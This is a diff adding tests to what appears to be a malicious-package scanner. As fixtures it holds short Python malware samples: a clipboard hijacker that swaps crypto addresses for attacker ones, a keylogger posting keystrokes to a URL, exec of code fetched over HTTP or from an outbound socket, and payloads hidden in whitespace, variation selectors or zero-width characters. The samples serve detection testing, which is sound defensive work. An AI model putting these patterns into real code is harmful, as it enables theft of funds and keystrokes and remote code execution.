@@ -205,3 +205,101 @@ describe('persistence', () => {
     ).toEqual([]);
   });
 });
+
+describe('clipper (stealer-capability)', () => {
+  it('a clipboard write in a file that reads the clipboard and matches crypto addresses is danger, network or not', () => {
+    expect(
+      only(
+        'stealer-capability',
+        `import re, pyperclip\ndata = pyperclip.paste()\nif re.search('^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$', data):\n    pyperclip.copy(ATTACKER)\nif re.search('^0x[a-fA-F0-9]{40}$', data):\n    pyperclip.copy(ATTACKER_ETH)\n`,
+      ),
+    ).toEqual(['info stealer-capability 2 import', 'danger stealer-capability 4 import', 'danger stealer-capability 6 import']);
+  });
+
+  it('benign look-alikes: a line-break cleaner that writes back what it read, a wallet that pastes and copies without an address regex', () => {
+    expect(
+      only('stealer-capability', `import re, pyperclip\ndef clean():\n    pyperclip.copy(re.sub(r'\\n', ' ', pyperclip.paste()))\n`).filter(
+        (f) => !f.startsWith('info'),
+      ),
+    ).toEqual([]);
+    expect(
+      only(
+        'stealer-capability',
+        `import pyperclip\nclass Pay:\n    def paste(self):\n        t = pyperclip.paste()\n        if self.wallet.is_address(t):\n            self.to = t\n    def copy(self):\n        pyperclip.copy(self.wallet.address)\n`,
+      ).filter((f) => !f.startsWith('info')),
+    ).toEqual([]);
+  });
+});
+
+describe('stealer capabilities meet the network where the code runs', () => {
+  it('a keyboard listener and a send in the same function stay a threat, a level lower in the package', () => {
+    expect(
+      only(
+        'stealer-capability',
+        `import requests\nfrom pynput import keyboard\ndef spy():\n    keyboard.Listener(on_press=lambda k: requests.post(U, data=str(k))).start()\n`,
+      ),
+    ).toEqual(['caution stealer-capability 4 package']);
+  });
+
+  it('benign look-alike: push-to-talk listens in one method and posts audio in another: a note', () => {
+    expect(
+      only(
+        'stealer-capability',
+        `import requests\nfrom pynput import keyboard\nclass PushToTalk:\n    def start(self):\n        keyboard.Listener(on_press=self.on_press).start()\n    def transcribe(self, audio):\n        return requests.post(self.url, data=audio)\n`,
+      ),
+    ).toEqual(['info stealer-capability 5 package']);
+  });
+
+  it('a hidden window counts with a download in the code that runs, not one in an uncalled function', () => {
+    expect(
+      only(
+        'download-exec',
+        `import subprocess, urllib.request\ndef update():\n    urllib.request.urlretrieve(U, "u.exe")\nsubprocess.Popen(["git", "status"], creationflags=subprocess.CREATE_NO_WINDOW)\n`,
+      ),
+    ).toEqual([]);
+  });
+});
+
+describe('invisible payloads', () => {
+  const ws = [...'print(1)']
+    .map((c) => c.charCodeAt(0).toString(2).padStart(8, '0'))
+    .join('')
+    .replace(/1/g, '\t')
+    .replace(/0/g, ' ');
+  it('a string of only tabs and spaces is danger (loquru)', () => {
+    expect(only('invisible-character', `singleton = '${ws}'\nexec(decode(singleton))\n`)).toEqual(['danger invisible-character 1 import']);
+  });
+
+  it('variation selectors carrying data, in a string or in code, and zero-width runs are danger (GlassWorm)', () => {
+    const vs = [...'print(1)'].map((c) => String.fromCodePoint(0xfe00 + (c.charCodeAt(0) & 15), 0xe0100 + (c.charCodeAt(0) >> 4))).join('');
+    expect(only('invisible-character', `_p = '${vs}'\n`)).toEqual(['danger invisible-character 1 import']);
+    expect(only('invisible-character', `x\ufe04 = 1\n`)).toEqual(['danger invisible-character 1 import']);
+    expect(only('invisible-character', `_p = '${'\u200b\u200c'.repeat(8)}'\n`)).toEqual(['danger invisible-character 1 import']);
+  });
+
+  it('benign look-alikes: a blank ruler of spaces, the England flag and a heart with VS16, RTL text closed in its string', () => {
+    expect(
+      at(
+        `BLANK = '${' '.repeat(120)}'\nFLAG = '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}'\nHEART = '\u2764\ufe0f'\nFA = '\u2067\u0633\u0644\u0627\u0645.\u2069'\nHE = '\u202b\u05e9\u05dc\u05d5\u05dd\u202c'\n`,
+      ),
+    ).toEqual([]);
+  });
+});
+
+describe('download-exec of received data', () => {
+  it('exec of bytes read from a socket the file connects out with, or of an HTTP response held in a name, is danger', () => {
+    expect(
+      only('download-exec', `import socket\ns = socket.socket()\ns.connect((H, 9009))\nd = s.recv(4096)\nexec(d, {'s': s})\n`),
+    ).toEqual(['danger download-exec 5 import']);
+    expect(only('download-exec', `import requests\ncode = requests.get(U).text\nexec(code)\n`)).toEqual(['danger download-exec 3 import']);
+  });
+
+  it('benign look-alike: a console server running what a client sends (it accepts, never connects out)', () => {
+    expect(
+      only(
+        'download-exec',
+        `import socket\nclass Server:\n    def serve(self):\n        srv = socket.socket()\n        srv.bind(('127.0.0.1', 0))\n        conn, _ = srv.accept()\n        code = conn.recv(65536)\n        exec(code, self.ns)\n`,
+      ),
+    ).toEqual([]);
+  });
+});
